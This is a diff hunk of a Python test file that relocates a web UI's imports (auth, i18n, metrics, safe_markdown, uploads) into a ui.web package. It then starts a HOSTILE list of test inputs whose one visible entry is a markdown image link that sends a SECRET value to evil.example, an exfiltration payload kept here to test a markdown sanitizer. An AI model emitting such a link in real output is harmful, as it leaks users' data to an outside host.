@@ -10,20 +10,20 @@ from pathlib import Path
 import pytest
 from markdown_it import MarkdownIt
 
-from rag.cli.ui_command import app_script, streamlit_argv
 from rag.config import Settings
 from rag.errors import BllossomRagError
-from ui.auth import groups_for
-from ui.i18n import LABELS, resolve_language
-from ui.metrics import GenerationLog, GenerationSample
-from ui.safe_markdown import (
+from ui.cli.ui_command import app_script, streamlit_argv
+from ui.web.auth import groups_for
+from ui.web.i18n import LABELS, resolve_language
+from ui.web.metrics import GenerationLog, GenerationSample
+from ui.web.safe_markdown import (
     Block,
     MarkdownGuard,
     literal_markdown,
     safe_markdown,
     split_code_blocks,
 )
-from ui.uploads import MAX_NAME_BYTES, safe_filename, save_upload
+from ui.web.uploads import MAX_NAME_BYTES, safe_filename, save_upload
 
 HOSTILE = [
     "![pixel](https://evil.example/p.png?q=SECRET)",
